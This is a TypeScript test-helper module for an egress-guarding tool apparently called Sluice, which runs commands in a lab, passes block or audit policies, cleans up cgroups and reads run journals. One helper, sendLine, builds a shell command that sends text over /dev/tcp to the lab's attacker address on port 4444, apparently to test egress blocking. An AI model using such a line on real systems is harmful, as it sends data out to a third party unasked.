/**
 * `sluice run` on the guarded side of a lab.
 *
 * @module
 */
import type { Event } from "../../agent/record/event.ts";
import { readJournal } from "../../agent/record/read.ts";
import type { CommandResult, LabProcess } from "../lab/command.ts";
import type { Lab } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { RUN_TIMEOUT_MS, sluiceArgs } from "./cell.ts";

/** A command, and how it is guarded. */
export interface LabRunOrder {
  /** The command and its arguments. */
  readonly command: readonly string[];
  readonly egress?: "audit" | "block";
  readonly allow?: readonly string[];
  /** Passed on as they are. */
  readonly more?: readonly string[];
  /** User id that the command runs as, as if sudo stood in front. */
  readonly user?: number;
  readonly env?: Readonly<Record<string, string>>;
  readonly stdin?: string;
}

/** What a guarded command left, and which process guarded it. */
export interface LabRunResult extends CommandResult {
  readonly pid: number;
}

/** Where these runs keep their state. */
export function stateOf(lab: Lab): string {
  return `${lab.directory}/state`;
}

/** A shell line that sends a text to the attacker over TCP. */
export function sendLine(text: string, port = 4444): string {
  return `printf %s ${text} > /dev/tcp/${ADDRESSES.attacker.ipv4}/${port}`;
}

/**
 * Starts `sluice run` in the lab's `run` side; it stands in the lab's own
 * directory.
 *
 * @param lab Must be one with a watchdog.
 * @param order The command, alone or with policy and the rest.
 * @returns The process, whose pid is Sluice's own.
 */
export async function startRun(
  lab: Lab,
  order: LabRunOrder | readonly string[],
): Promise<LabProcess> {
  const { command, user, env, stdin, ...flags } = "command" in order
    ? order
    : { command: order };
  const { egress = "block", allow = [], more = [] } = flags;
  const sluice = lab.spawn("run", [
    ...sluiceArgs(),
    ...["run", "--state", stateOf(lab), "--egress", egress],
    ...allow.flatMap((entry) => ["--allow", entry]),
    ...more,
    "--",
    ...command,
  ], {
    stdin,
    env: {
      ...env,
      ...(user === undefined ? {} : { SUDO_UID: String(user) }),
      SLUICE_CWD: lab.directory,
    },
  });
  // When it was killed, nothing else removes the cgroup.
  await lab.onCleanup(
    `find /sys/fs/cgroup -depth -type d -path '*/run-${sluice.pid}*' ` +
      "-exec rmdir {} + 2>/dev/null; :",
  );
  return sluice;
}

/** Runs a command under guard to its end, as {@linkcode startRun} starts it. */
export async function runGuarded(
  lab: Lab,
  order: LabRunOrder | readonly string[],
): Promise<LabRunResult> {
  await using sluice = await startRun(lab, order);
  const result = await sluice.finished(RUN_TIMEOUT_MS);
  return { ...result, pid: sluice.pid };
}

/** The events of a run that kept its journal in its state. */
export async function eventsOf(
  lab: Lab,
  { pid }: { pid: number },
): Promise<readonly Event[]> {
  const path = `${stateOf(lab)}/run-${pid}/journal.ndjson`;
  const { events, problems } = readJournal(await Deno.readTextFile(path));
  if (problems.length === 0) return events;
  throw new Error(`Cannot trust "${path}": ${JSON.stringify(problems)}`);
}
